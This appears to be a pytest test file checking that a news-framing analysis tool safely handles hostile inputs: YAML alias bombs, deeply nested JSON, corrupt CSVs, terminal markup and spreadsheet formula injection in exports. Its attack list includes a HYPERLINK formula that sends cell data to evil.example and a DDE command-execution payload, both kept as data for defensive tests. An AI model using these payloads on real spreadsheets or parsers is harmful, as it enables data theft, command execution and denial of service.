"""Hostile inputs (issue 14): each case fails fast with a clear message or is skipped and
reported, never crashes, never loses a good neighbour, never attacks the reader of an export."""

from __future__ import annotations

import json
import resource
import time

import pytest

from framing.codebook import Codebook, CodebookError


def load_yaml(*args, **kwargs):
    from framing.safeio import load_yaml as real

    return real(*args, **kwargs)


def loads_json(*args, **kwargs):
    from framing.safeio import loads_json as real

    return real(*args, **kwargs)


def _unsafe():
    from framing.safeio import UnsafeInputError

    return UnsafeInputError

_FRAMES = "frames:\n  - id: f\n    prototypes: [a sentence]\n  - id: g\n    prototypes: [another one]\n"


# ---------------------------------------------------------------------- YAML and codebooks
def _laughs(levels: int = 8) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    return "id: lol\nbomb:\n  " + "\n  ".join(lines) + f"\n{_FRAMES}    label: *a{levels}\n"


def test_billion_laughs_codebook_fails_fast_with_little_memory(tmp_path):
    path = tmp_path / "lol.yaml"
    path.write_text(_laughs(), encoding="utf-8")
    assert path.stat().st_size < 700
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    with pytest.raises(CodebookError, match=r"lol\.yaml.*expands to more than"):
        Codebook.load(path)
    assert time.perf_counter() - start < 1.0
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 50 * 1024


def test_recursive_alias_is_refused():
    with pytest.raises(_unsafe(), match="expands"):
        load_yaml("a: &a [*a]\n", source="r.yaml")


def test_aliases_within_budget_still_load():
    data = load_yaml("base: &b {x: 1}\nuse: [*b, *b, *b]\n", source="ok.yaml")
    assert data["use"][2] == {"x": 1}


def test_large_yaml_refused_before_parsing(tmp_path):
    with pytest.raises(_unsafe(), match=r"big\.yaml.*larger than"):
        load_yaml("x: " + "a" * 100, source="big.yaml", max_bytes=50)
    path = tmp_path / "big.yaml"
    path.write_text("id: big\n" + _FRAMES + "# " + "z" * (3 * 2**20) + "\n", encoding="utf-8")
    with pytest.raises(CodebookError, match="larger than the limit"):
        Codebook.load(path)


def test_deep_yaml_is_an_error_not_a_crash():
    with pytest.raises(_unsafe(), match="d.yaml"):
        load_yaml("[" * 20000 + "]" * 20000, source="d.yaml")


@pytest.mark.parametrize("extra, field", [
    ("axes: 5\n", "axes"),
    ("axes: [5]\n", "axes[0]"),
    ("name: [a, b]\n", "name"),
    ("description: {a: 1}\n", "description"),
    ("version: [1]\n", "version"),
    ("entities: [{name: X, aliases: [[1, 2]]}]\n", "aliases[0]"),
    ("entities: 7\n", "entities"),
])
def test_wrong_types_are_validation_errors_naming_the_field(extra, field):
    with pytest.raises(CodebookError) as info:
        Codebook.from_yaml("id: t\n" + _FRAMES + extra, source="t.yaml")
    assert "t.yaml" in str(info.value) and field in str(info.value)


def test_wrong_type_of_frame_label_names_the_frame():
    text = "id: t\nframes:\n  - id: f\n    label: {nested: map}\n    prototypes: [a]\n"
    with pytest.raises(CodebookError, match=r"frame 'f'\.label: expected text"):
        Codebook.from_yaml(text, source="t.yaml")


# ---------------------------------------------------------------------- JSON limits
def test_json_depth_limit():
    assert loads_json('{"a": [[1]]}') == {"a": [[1]]}
    with pytest.raises(_unsafe(), match="nested"):
        loads_json("[" * 100_000 + "]" * 100_000)
    with pytest.raises(_unsafe(), match="nested"):
        loads_json("[" * 80 + "]" * 80, max_depth=64)
    with pytest.raises(json.JSONDecodeError):
        loads_json("{nope")


# ---------------------------------------------------------------------- exports
_ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def _attack_tables():
    import pandas as pd

    n = len(_ATTACKS)
    scores = pd.DataFrame({"article_id": [f"a{i}" for i in range(n)], "outlet": _ATTACKS, "title": _ATTACKS[::-1],
                           "frame:x": [-0.5 + i for i in range(n)], "label": ["-0.25"] * n})
    events = pd.DataFrame({"event_id": ["e1"], "event_label": ["=1+2"], "=name": ["@x"]})
    return {"scores": scores, "events": events}


def test_csv_cells_neutralised_by_default_and_raw_on_request(tmp_path):
    import pandas as pd

    tables = _attack_tables()
    written = export_tables_(tables, tmp_path / "out", format="csv")
    manifest = json.loads(written[-1].read_text())
    assert manifest["cells"] == "neutralised"
    back = pd.read_csv(tmp_path / "out" / "scores.csv")
    for col in ("outlet", "title"):
        assert all(v.startswith("'") for v in back[col]), back[col].tolist()
    assert back["outlet"].tolist() == ["'" + a for a in _ATTACKS]
    assert back["frame:x"].tolist() == [-0.5 + i for i in range(len(_ATTACKS))]  # numbers stay numbers
    assert back["label"].tolist() == [-0.25] * len(_ATTACKS)  # text that is a number is left alone
    events = (tmp_path / "out" / "events.csv").read_text()
    assert "'=1+2" in events and "'=name" in events and "'@x" in events
    raw = export_tables_(tables, tmp_path / "raw", format="csv", neutralise_formulas=False)
    assert json.loads(raw[-1].read_text())["cells"] == "raw"
    assert pd.read_csv(tmp_path / "raw" / "scores.csv")["outlet"].tolist()[:5] == _ATTACKS[:5]


@pytest.mark.parametrize("neutralise", [True, False])
def test_xlsx_never_holds_a_formula(tmp_path, neutralise):
    import openpyxl

    path = export_tables_(_attack_tables(), tmp_path / "r.xlsx", neutralise_formulas=neutralise)[0]
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert ("'" + _ATTACKS[0] in texts) is neutralise
    assert (_ATTACKS[0] in texts) is (not neutralise)
    numbers = [c.value for c in wb["scores"]["D"][1:]]
    assert numbers[0] == -0.5 and isinstance(numbers[0], float)


def test_xlsx_export_survives_control_characters(tmp_path):
    import pandas as pd

    frame = pd.DataFrame({"title": ["nul\x00here", "esc\x1b[31m", "fine"]})
    path = export_tables_({"t": frame}, tmp_path / "c.xlsx")[0]
    back = pd.read_excel(path)
    assert back["title"].tolist()[2] == "fine" and "\x00" not in back["title"][0]


def test_latex_of_non_latin_text_says_it_needs_xelatex(tmp_path, caplog):
    import pandas as pd

    urdu = pd.DataFrame({"outlet": ["ڈان"], "title": ["پاکستان میں خبریں"]})
    with caplog.at_level("WARNING", logger="framing.export"):
        path = export_tables_({"t": urdu}, tmp_path / "u.tex")[0]
    assert "xelatex" in path.read_text(encoding="utf-8").splitlines()[0]
    assert any("xelatex" in r.getMessage() for r in caplog.records)
    latin = export_tables_({"t": pd.DataFrame({"title": ["Café déjà vu"]})}, tmp_path / "l.tex")[0]
    assert "xelatex" not in latin.read_text(encoding="utf-8")


def test_neutralise_sql_matches_the_python_rule():
    import duckdb

    from framing.export import neutralise_formula, neutralise_sql, neutralised_query

    values = _ATTACKS + ["-0.5", "+3", "plain", "", "-", "1e5", "=", "x=1"]
    con = duckdb.connect()
    try:
        got = [con.execute("SELECT " + neutralise_sql("$v::VARCHAR"), {"v": v}).fetchall()[0][0] for v in values]
        assert got == [neutralise_formula(v) for v in values]
        rows = con.execute(neutralised_query(con, "SELECT '=1' AS \"=t\", -5 AS n")).fetchall()
        cols = [d[0] for d in con.description]
        assert rows == [("'=1", -5)] and cols == ["'=t", "n"]
    finally:
        con.close()


def export_tables_(*args, **kwargs):
    from framing.export import export_tables

    return export_tables(*args, **kwargs)


# ---------------------------------------------------------------------- ingest: one bad record never costs the good ones
def _good(i: int, **extra) -> dict:
    return {"id": f"g{i}", "title": f"Good {i}", "outlet": "Herald", "date": "2025-01-0" + str(1 + i % 9),
            "text": f"Article number {i} reports that the council met on day {i} to discuss road repairs {i}.", **extra}


def _load(path, **kwargs):
    from framing.ingest import load

    return load(path, **kwargs)


def test_jsonl_bad_records_each_skipped_or_kept(tmp_path):
    lines = [json.dumps(_good(1)),
             "[" * 100_000 + "]" * 100_000,                                  # nested 100k deep
             json.dumps(_good(2, date=int("9" * 401))),                     # 401-digit integer date
             json.dumps(_good(3, text="A lone \ud800 surrogate sits in this article text.")),
             json.dumps(_good(4)).replace("Article number", "Article\\u0000 number"),
             json.dumps(_good(5))]
    path = tmp_path / "dump.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", errors="surrogatepass")
    with path.open("ab") as fh:                                             # a raw NUL byte in one record
        fh.write(json.dumps(_good(6)).replace("Article number", "Article\x00number").encode() + b"\n")
    corpus = _load(path)
    report = corpus.report
    assert corpus.ids == ["g1", "g2", "g3", "g4", "g5", "g6"]
    assert [(s.location, "nested" in s.reason) for s in report.skipped] == [("line 2", True)]
    assert corpus["g2"].published is None and any("could not be parsed" in w for w in report.warnings)
    assert "\ufffd" in corpus["g3"].text and "\ud800" not in corpus["g3"].text
    assert "\x00" not in corpus["g4"].text + corpus["g6"].text
    assert report.kept + len(report.merged) + len(report.skipped) == report.records_read == 7


def test_store_takes_the_hostile_records(tmp_path):
    from framing.ingest import ingest
    from framing.store import Store

    path = tmp_path / "dump.jsonl"
    path.write_text(json.dumps(_good(1, text="Lone \ud800 surrogate and a \u0000 NUL in one text.")) + "\n"
                    + json.dumps(_good(2)) + "\n", encoding="utf-8")
    with Store(tmp_path / "s.duckdb") as store:
        report = ingest([path], store)
        assert report.kept == 2 and store.article_count() == 2


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_utf16_without_bom_is_detected(tmp_path, encoding, fmt):
    if fmt == "jsonl":
        body = "\n".join(json.dumps(_good(i), ensure_ascii=False) for i in range(3)) + "\n"
    else:
        body = "id,title,outlet,date,text\n" + "".join(f"g{i},T{i},Herald,2025-01-02,Some text é number {i}\n"
                                                        for i in range(3))
    path = tmp_path / f"wide.{fmt}"
    path.write_bytes(body.encode(encoding))
    corpus = _load(path)
    assert corpus.ids == ["g0", "g1", "g2"]
    assert all("\x00" not in a.text for a in corpus)


def test_nul_byte_in_one_csv_row_keeps_the_file(tmp_path):
    path = tmp_path / "n.csv"
    path.write_bytes(b"id,title,text\n1,A,First row text about the weather\n2,B,Second\x00row text about rain\n"
                     b"3,C,Third row text about snow\n")
    corpus = _load(path)
    assert corpus.ids == ["1", "2", "3"] and corpus["2"].text == "Secondrow text about rain"


def test_unclosed_csv_quote_reports_and_rereads_the_swallowed_rows(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text("id,title,outlet,date,text\n"
                    "a1,First,Herald,2025-01-01,The first good row of text\n"
                    "a2,Second,Herald,2025-01-01,The second good row of text\n"
                    'b1,"Unclosed title,Herald,2025-01-01,text\n'
                    "c1,Third,Herald,2025-01-01,The third good row of text\n"
                    "c2,Fourth,Herald,2025-01-01,The fourth good row of text\n"
                    "c3,Fifth,Herald,2025-01-01,The fifth good row of text\n", encoding="utf-8")
    corpus = _load(path)
    report = corpus.report
    assert corpus.ids == ["a1", "a2", "c1", "c2", "c3"]
    assert len(report.skipped) == 1 and "unclosed quote at line 4" in report.skipped[0].reason
    assert "lines 5..7" in report.skipped[0].reason
    assert report.kept + len(report.skipped) == report.records_read == 6


def test_legit_multiline_quoted_field_is_one_row(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text('id,title,text\n1,A,"Para one, with commas, a, b.\nPara two, more, c, d."\n2,B,Plain text here\n',
                    encoding="utf-8")
    corpus = _load(path)
    assert corpus.ids == ["1", "2"] and "Para two" in corpus["1"].text and not corpus.report.skipped


def test_folder_keeps_good_files_and_reports_bad_ones(tmp_path, monkeypatch):
    import os

    import framing.ingest.pipeline as pipeline

    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "good.jsonl").write_text(json.dumps(_good(1)) + "\n", encoding="utf-8")
    (folder / "meta.csv").write_text("ref,name\n1,x\n", encoding="utf-8")
    (folder / "noise.txt").write_bytes(os.urandom(3000))
    (folder / "locked.jsonl").write_text(json.dumps(_good(2)) + "\n", encoding="utf-8")
    (folder / "zgood.csv").write_text("id,text\nz1,Another good article about the port strike.\n", encoding="utf-8")
    real = pipeline.file_sha256

    def sha(path):
        if path.name == "locked.jsonl":
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(pipeline, "file_sha256", sha)
    corpus = _load(folder)
    report = corpus.report
    assert corpus.ids == ["g1", "z1"]
    bad = {Path_(s.file).name: s.reason for s in report.files_skipped}
    assert set(bad) == {"meta.csv", "noise.txt", "locked.jsonl"}
    assert "no recognisable text column" in bad["meta.csv"] and "Permission denied" in bad["locked.jsonl"]
    assert report.has_skips


def test_only_input_unreadable_is_still_an_error(tmp_path):
    from framing.ingest import IngestError

    path = tmp_path / "meta.csv"
    path.write_text("ref,name\n1,x\n", encoding="utf-8")
    with pytest.raises(IngestError, match="meta.csv: no recognisable text column"):
        _load(path)


def test_csv_parse_error_half_way_keeps_the_rows_before(tmp_path, monkeypatch):
    import csv

    path = tmp_path / "big.csv"
    path.write_text("id,text\n" + "".join(f"r{i},Row {i} text about a meeting {i}\n" for i in range(20))
                    + 'r20,"' + "x" * 200_000 + '"\n', encoding="utf-8")
    real = csv.field_size_limit
    before = real()
    monkeypatch.setattr(csv, "field_size_limit", lambda *a: real(131072))  # the long field then fails
    try:
        corpus = _load(path)
    finally:
        real(before)
    assert len(corpus) == 20
    assert corpus.report.files_skipped and "the rest not read" in corpus.report.files_skipped[0].reason


def Path_(p):
    from pathlib import Path

    return Path(p)


def test_big_record_truncated_with_a_warning(tmp_path):
    path = tmp_path / "big.jsonl"
    text = ("word " * 5000).strip()
    path.write_text(json.dumps(_good(1, text=text)) + "\n" + json.dumps(_good(2, title="T" * 20_000)) + "\n")
    corpus = _load(path, max_record_chars=1000)
    assert len(corpus["g1"].text) <= 1000 and corpus["g1"].text.endswith("word")
    assert any("truncated to the first" in w and "line 1" in w for w in corpus.report.warnings)
    assert len(corpus["g2"].title) == 10_000
    assert len(_load(path, max_record_chars=None)["g1"].text) == len(text)


_BIG_RECORD_SCRIPT = r"""
import json, random, sys
from pathlib import Path
from framing.ingest import ingest
from framing.store import Store
folder = Path(sys.argv[1])
path = folder / "big.jsonl"
rng = random.Random(0)
words = ["w%05d" % i for i in range(20000)]
with open(path, "w") as fh:
    fh.write(json.dumps({"id": "g1", "outlet": "O", "text": "A good short article about the talks."}) + "\n")
    fh.write('{"id": "big", "outlet": "O", "text": "')
    for _ in range(50 * 2**20 // 60000):
        fh.write(" ".join(rng.choices(words, k=10000)) + ". ")
    fh.write('"}\n')
    fh.write(json.dumps({"id": "g2", "outlet": "O", "text": "Another good article about the weather."}) + "\n")
with Store(folder / "s.duckdb") as store:
    report = ingest([path], store)
print(json.dumps({"kept": report.kept, "warnings": report.warnings, "bytes": path.stat().st_size}))
"""


def test_one_50mb_record_stays_under_1gib(tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    proc = subprocess.Popen([sys.executable, "-c", _BIG_RECORD_SCRIPT, str(tmp_path)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=env)
    out = proc.stdout.read()
    err = proc.stderr.read()
    _, status, usage = os.wait4(proc.pid, 0)
    assert status == 0, err.decode()[-2000:]
    result = json.loads(out)
    assert result["bytes"] > 50 * 10**6 and result["kept"] == 3
    assert any("line 2" in w and "truncated" in w for w in result["warnings"])
    assert usage.ru_maxrss < 1024 * 1024  # KiB: under 1 GiB


def test_near_duplicate_detection_really_turns_off(tmp_path, monkeypatch):
    from framing.ingest import Deduplicator, ingest
    from framing.store import Store

    def boom(self, tokens):
        raise AssertionError("signature computed although near-duplicate detection is off")

    monkeypatch.setattr(Deduplicator, "signature", boom)
    path = tmp_path / "d.jsonl"
    path.write_text(json.dumps(_good(1)) + "\n" + json.dumps(_good(2)) + "\n")
    with Store(tmp_path / "s.duckdb") as store:
        report = ingest([path], store, near_duplicate_threshold=1.5)
    assert report.kept == 2
    assert _load(path, near_duplicate_threshold=1.5).report.kept == 2


def test_signature_in_blocks_is_exact_and_long_texts_are_sampled():
    import numpy as np

    from framing.ingest import dedup

    d = dedup.Deduplicator()
    tokens = [f"t{i % 997}" for i in range(30_000)]
    import pandas as pd

    words = pd.util.hash_array(np.asarray(tokens, dtype=object), categorize=False)
    sh = words[:-2] * dedup._P1 + words[1:-1] * dedup._P2
    sh = sh * dedup._P1 + words[2:] * dedup._P2
    direct = ((sh[:, None] * d._a[None, :] + d._b[None, :]) >> np.uint64(32)).min(axis=0).astype(np.uint32)
    assert np.array_equal(d.signature(tokens), direct)
    rng = np.random.default_rng(0)
    long_a = [f"w{x}" for x in rng.integers(0, 50_000, size=300_000)]
    long_b = list(long_a)
    long_b[1000:1100] = ["changed"] * 100
    sa, sb = d.signature(long_a), d.signature(long_b)
    assert float(np.mean(sa == sb)) > 0.9
    assert d.check("a", " ".join(long_a)) is None and d.check("b", " ".join(long_b)) == ("a", "near")


def test_parquet_bytes_decoded_and_struct_reason(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"id": ["1", "2"], "title": [b"Bytes title", b"Other"],
                      "text": [b"Text stored as bytes in Parquet about ports.", b"Second bytes text about trains."]})
    pq.write_table(table, tmp_path / "b.parquet")
    corpus = _load(tmp_path / "b.parquet")
    assert corpus["1"].title == "Bytes title" and corpus["1"].text.startswith("Text stored")
    struct = pa.table({"id": ["1"], "text": pa.array([{"lang": "en", "len": 3}])})
    pq.write_table(struct, tmp_path / "s.parquet")
    report = _load(tmp_path / "s.parquet").report
    assert report.kept == 0 and len(report.skipped) == 1
    assert "structure" in report.skipped[0].reason and "lang" in report.skipped[0].reason


def test_xlsx_formula_without_value_has_its_own_reason(tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", "text"])
    ws.append(["1", "A", "Real text about the talks in the capital."])
    ws.append(["2", "B", '=CONCAT("never", "computed")'])
    ws.append(["3", "C", "More text about the weather in the hills."])
    wb.save(tmp_path / "f.xlsx")
    corpus = _load(tmp_path / "f.xlsx")
    assert corpus.ids == ["1", "3"]
    assert [s.location for s in corpus.report.skipped] == ["row 3"]
    assert "formula without a stored value" in corpus.report.skipped[0].reason


# ---------------------------------------------------------------------- terminal markup
_MARKUP_OUTLETS = ["[/bold] x", "[link=http://evil.example]click[/link]", "[red]Red[/red] Times"]


@pytest.fixture
def hostile_markup_corpus(tmp_path):
    path = tmp_path / "m.jsonl"
    rows = [dict(_good(i), outlet=o, title=f"[bold]{o}") for i, o in enumerate(_MARKUP_OUTLETS)]
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def fake_encoder(monkeypatch, hashing_encoder):
    import framing.encoders

    monkeypatch.setattr(framing.encoders, "get_encoder", lambda name=None: hashing_encoder)
    return hashing_encoder


@pytest.mark.parametrize("command", ["analyse", "events"])
def test_markup_in_outlets_is_printed_as_text(hostile_markup_corpus, fake_encoder, tmp_path, command):
    from typer.testing import CliRunner

    from framing.cli import app

    result = CliRunner().invoke(app, [command, str(hostile_markup_corpus), "--no-cache"], terminal_width=250)
    assert result.exit_code == 0, result.output
    assert "[/bold] x" in result.output or "[/bold]" in result.output
    assert "[link=" in result.output and "\x1b]8;" not in result.output


def test_ingest_report_prints_markup_literally(tmp_path):
    from typer.testing import CliRunner

    from framing.cli import app

    path = tmp_path / "[link=evil]x[red].jsonl"
    path.write_text(json.dumps(_good(1)) + "\n{broken [/bold]\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["ingest", str(path), "--db", str(tmp_path / "d.duckdb"), "-q"],
                                terminal_width=300)
    assert result.exit_code == 3, result.output
    assert "[link=evil]x[red]" in result.output.replace("\n", "")


# ---------------------------------------------------------------------- store
class _FailingCommit:
    """A DuckDB connection whose commit fails like a full disk (and whose rollback then fails too)."""

    def __init__(self, con):
        self._con = con

    def __getattr__(self, name):
        return getattr(self._con, name)

    def commit(self):
        import duckdb

        self._con.rollback()
        raise duckdb.IOException('IO Error: Could not write file "s.duckdb.wal": No space left on device')

    def rollback(self):
        import duckdb

        raise duckdb.TransactionException("TransactionContext Error: cannot rollback - no transaction is active")


def test_full_disk_surfaces_no_space_left(tmp_path):
    from framing.corpus import Article
    from framing.store import Store

    store = Store(tmp_path / "s.duckdb")
    try:
        store.con = _FailingCommit(store.con)
        with pytest.raises(ValueError, match="No space left on device") as info:
            store.add_corpus([Article(article_id="a", outlet="O", published=None, title="t", text="Some text.")],
                             dedup=("scheme", [("a", b"k", None)]))
        assert "cannot rollback" not in str(info.value)
        store.con = store.con._con
        assert store.article_count() == 0
    finally:
        store.close()


def test_duplicate_index_is_written_with_the_articles(tmp_path):
    from framing.ingest import ingest
    from framing.store import Store

    path = tmp_path / "d.jsonl"
    path.write_text("\n".join(json.dumps(_good(i)) for i in range(7)) + "\n")
    with Store(tmp_path / "s.duckdb") as store:
        ingest([path], store, batch_size=3)
        n_index = store.con.execute("SELECT count(*) FROM dedup_index").fetchall()[0][0]
        assert n_index == store.article_count() == 7


def test_failed_batch_leaves_neither_articles_nor_index(tmp_path):
    from framing.corpus import Article
    from framing.store import Store

    with Store(tmp_path / "s.duckdb") as store:
        store.add_corpus([Article(article_id="x", outlet="O", published=None, title="t", text="First.")])
        store.con = _FailingCommit(store.con)
        with pytest.raises(ValueError):
            store.add_corpus([Article(article_id="y", outlet="O", published=None, title="t", text="Second.")],
                             dedup=("s", [("y", b"k", None)]))
        store.con = store.con._con
        assert store.article_count() == 1
        assert store.con.execute("SELECT count(*) FROM dedup_index").fetchall()[0][0] == 0


_HOLD_SCRIPT = """
import sys, time, duckdb
con = duckdb.connect(sys.argv[1], read_only=sys.argv[2] == "ro")
print("ready", flush=True)
sys.stdin.readline()
"""


def _hold(path, mode):
    import subprocess
    import sys

    proc = subprocess.Popen([sys.executable, "-c", _HOLD_SCRIPT, str(path), mode], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "ready"
    return proc


def test_lock_error_says_what_to_do_and_readers_share(tmp_path):
    from typer.testing import CliRunner

    from framing.cli import app
    from framing.store import Store, StoreLockedError, open_store

    db = tmp_path / "s.duckdb"
    path = tmp_path / "d.jsonl"
    path.write_text(json.dumps(_good(1)) + "\n")
    assert CliRunner().invoke(app, ["ingest", str(path), "--db", str(db), "-q"]).exit_code == 0
    writer = _hold(db, "rw")
    try:
        with pytest.raises(StoreLockedError, match=r"open in another process \(the app\?\): close it or use --db"):
            Store(db)
        store, note = open_store(db)
        assert store is None and "running without the store" in note
        result = CliRunner().invoke(app, ["ingest", str(path), "--db", str(db), "-q"])
        assert result.exit_code == 1 and "close it or use --db" in result.output
    finally:
        writer.communicate("\n")
    reader = _hold(db, "ro")
    try:
        result = CliRunner().invoke(app, ["articles", "--db", str(db)])
        assert result.exit_code == 0 and "g1" in result.output
        store, note = open_store(db)
        assert store is not None and store.read_only and "read-only" in note
        store.put_embeddings("m", ["h"], __import__("numpy").zeros((1, 3)))  # a no-op, not an error
        store.close()
    finally:
        reader.communicate("\n")


def test_pickled_weights_file_gives_a_clear_error(tmp_path):
    import pickle

    from framing.validate.supervised import load_model

    (tmp_path / "config.json").write_text(json.dumps({"format": "framing.FrameClassifier", "params": {}}))
    (tmp_path / "weights.safetensors").write_bytes(pickle.dumps({"a": [1, 2, 3]}))
    with pytest.raises(ValueError, match=r"weights\.safetensors: not a valid safetensors file.*never unpickles"):
        load_model(tmp_path)


def test_a_tiny_csv_with_control_characters_in_one_field_is_still_text(tmp_path):
    """Found by the property test: a one-row CSV whose outlet is two control characters
    counted as binary (2 of 40 bytes > 5 %) and the whole file was refused."""
    import framing

    path = tmp_path / "r.csv"
    path.write_text("title,text,outlet,date\nT,Some text about the border.,\x1f\x1f,\n", encoding="utf-8")
    corpus = framing.load([path])
    assert len(corpus) + len(corpus.report.skipped) == 1
